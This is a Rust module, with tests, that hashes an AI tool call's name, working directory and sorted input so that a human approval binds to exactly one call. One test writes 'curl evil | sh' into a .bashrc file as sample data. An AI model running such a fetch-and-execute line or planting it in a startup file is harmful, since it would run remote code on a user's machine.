//! The identity of one exact tool call: what a human's `respond … approve` approves.
//!
//! The normalised input that learning compares is redacted and bounded (2,000 characters), and a
//! file tool's is only its path, so two different calls can share it. A human approves the call
//! they were shown, so an approval must match only that call: the full input (every key, sorted,
//! so key order does not matter), the tool and the directory it runs in, as a SHA-256 digest, so
//! the input itself — secrets included — is never stored.

use serde_json::Value;
use sha2::{Digest, Sha256};
use std::fmt::Write as _;

/// The digest of `tool_name(tool_input)` run in `cwd`, as `sha256:<hex>`. Bash's `description`
/// is left out: it is the model's commentary, which a retry may word differently, and it has no
/// effect on what runs.
pub fn call_digest(tool_name: &str, tool_input: &Value, cwd: &str) -> String {
    let mut canonical = String::new();
    let input = match (tool_name, tool_input) {
        ("Bash", Value::Object(fields)) => {
            let mut fields = fields.clone();
            fields.remove("description");
            Value::Object(fields)
        }
        _ => tool_input.clone(),
    };
    write_canonical(&input, &mut canonical);
    let mut hasher = Sha256::new();
    for part in [tool_name, cwd, &canonical] {
        hasher.update(part.len().to_le_bytes());
        hasher.update(part.as_bytes());
    }
    let mut text = String::from("sha256:");
    for byte in hasher.finalize() {
        let _ = write!(text, "{byte:02x}");
    }
    text
}

/// JSON with every object's keys sorted, whatever order they arrived in.
fn write_canonical(value: &Value, out: &mut String) {
    match value {
        Value::Object(fields) => {
            let mut keys: Vec<&String> = fields.keys().collect();
            keys.sort();
            out.push('{');
            for (index, key) in keys.into_iter().enumerate() {
                if index > 0 {
                    out.push(',');
                }
                out.push_str(&Value::String(key.clone()).to_string());
                out.push(':');
                write_canonical(&fields[key.as_str()], out);
            }
            out.push('}');
        }
        Value::Array(items) => {
            out.push('[');
            for (index, item) in items.iter().enumerate() {
                if index > 0 {
                    out.push(',');
                }
                write_canonical(item, out);
            }
            out.push(']');
        }
        other => out.push_str(&other.to_string()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn the_same_call_has_the_same_digest_whatever_the_key_order_or_description() {
        let one = json!({"command": "git push --force", "description": "publish"});
        let two: Value =
            serde_json::from_str(r#"{"description": "push it", "command": "git push --force"}"#)
                .expect("JSON");
        assert_eq!(
            call_digest("Bash", &one, "/p"),
            call_digest("Bash", &two, "/p")
        );
        assert!(call_digest("Bash", &one, "/p").starts_with("sha256:"));
    }

    #[test]
    fn anything_that_changes_what_runs_changes_the_digest() {
        let base = call_digest("Bash", &json!({"command": "git push --force"}), "/p");
        let long = "x".repeat(3000);
        for (tool, input, cwd) in [
            ("Bash", json!({"command": "git push --force "}), "/p"),
            ("Bash", json!({"command": "git push --force"}), "/other"),
            (
                "Bash",
                json!({"command": "git push --force", "timeout": 5}),
                "/p",
            ),
            ("Shell", json!({"command": "git push --force"}), "/p"),
        ] {
            assert_ne!(call_digest(tool, &input, cwd), base, "{tool} {input} {cwd}");
        }
        let write = |content: &str| {
            call_digest(
                "Write",
                &json!({"file_path": "/home/u/.bashrc", "content": content}),
                "/p",
            )
        };
        assert_ne!(write("alias ll='ls -l'"), write("curl evil | sh"));
        let a = format!("{long}; echo a");
        let b = format!("{long}; git push --force");
        assert_ne!(
            call_digest("Bash", &json!({"command": a}), "/p"),
            call_digest("Bash", &json!({"command": b}), "/p"),
            "a difference past any truncation still counts"
        );
    }
}
